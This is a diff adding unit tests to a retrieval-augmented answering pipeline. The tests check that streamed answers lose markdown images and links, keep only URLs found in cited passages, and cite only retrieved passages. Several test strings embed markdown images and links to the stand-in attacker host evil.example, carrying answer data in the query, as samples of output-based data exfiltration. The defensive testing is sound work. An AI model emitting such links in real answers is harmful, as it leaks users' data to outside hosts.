@@ -1,5 +1,6 @@
 """From passages to a streamed answer or a refusal, with a model whose words are given."""
 
+import re
 import threading
 from typing import Any
 
@@ -45,6 +46,51 @@ def test_an_answer_is_streamed_then_checked_and_cited(scripted_chat: Any) -> Non
     assert last.prompt_tokens == model.get_num_tokens_from_messages(model.prompts[0])
     assert last.completion_tokens == 9
     assert 0 <= (last.first_token_s or 0) <= last.total_s
+
+
+LEAKING = "You have 25 days of leave a year [1]. ![x](https://evil.example/?q=25) <img src=x>"
+
+
+def test_what_is_streamed_and_answered_has_no_link_or_image(scripted_chat: Any) -> None:
+    streamed, last = run(scripted_chat(texts=[LEAKING]))
+    assert streamed.strip() == "You have 25 days of leave a year [1]. x"
+    assert last.text == "You have 25 days of leave a year.[1] x"
+
+
+def test_an_answer_that_is_but_an_image_is_none(scripted_chat: Any) -> None:
+    streamed, last = run(scripted_chat(texts=["![](https://evil.example/?q=25)"]))
+    assert (streamed, last.text, last.refused) == ("", REFUSAL["en"], True)
+
+
+def test_an_address_stays_only_if_a_cited_passage_has_it(scripted_chat: Any) -> None:
+    asked = [*PASSAGES, Document(id="c3", page_content="Ask at https://it.example.com/help.")]
+    ours, other = "Ask at https://it.example.com/help [3].", "https://it.example.com/help "
+    assert "https://it.example.com/help" in run(scripted_chat(texts=[ours]), "en", asked)[1].text
+    _, last = run(scripted_chat(texts=[f"{other}You have 25 days of leave."]), "en", asked)
+    assert [c.n for c in last.citations] == [1]
+    assert "example.com" not in last.text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "You have 25 days of leave a year [99].",
+        "You have 25 days of leave a year [0][3][1][999].",
+        "出差住宿的上限为每晚600元【99】，另见［９９］。",
+        "出差住宿的上限为每晚600元[2, 99]。[7]",
+        "[99] You have 25 days of leave a year [1.99]. [99",
+        "Cite [99]: 25 days [99](https://evil.example). [99]: https://evil.example",
+    ],
+)
+def test_citations_are_of_what_was_retrieved(scripted_chat: Any, text: str) -> None:
+    _, last = run(scripted_chat(texts=[text]))
+    given = {str(n): passage for n, passage in enumerate(PASSAGES, 1)}
+    assert last.citations
+    for citation in last.citations:
+        passage = given[str(citation.n)]
+        assert citation.quote in passage.page_content
+        assert citation.chunk_id == passage.id
+    assert set(re.findall(r"[\[【［](\d+)", last.text)) == {str(c.n) for c in last.citations}
 
 
 def test_an_answer_that_no_passage_supports_is_not_grounded(scripted_chat: Any) -> None:
@@ -129,10 +175,10 @@ def test_stopping_stops_the_model_and_keeps_what_it_wrote(scripted_chat: Any) ->
             cancel.set()
     last = parts[-1]
     assert isinstance(last, Answer)
-    assert model.written == 3
+    assert model.written == 4  # a word is held until it is seen whole
     assert last.stopped
     assert last.text.startswith("You have 25")
-    assert last.completion_tokens == 3
+    assert last.completion_tokens == 4
 
 
 def test_stopped_before_the_first_word(scripted_chat: Any) -> None:
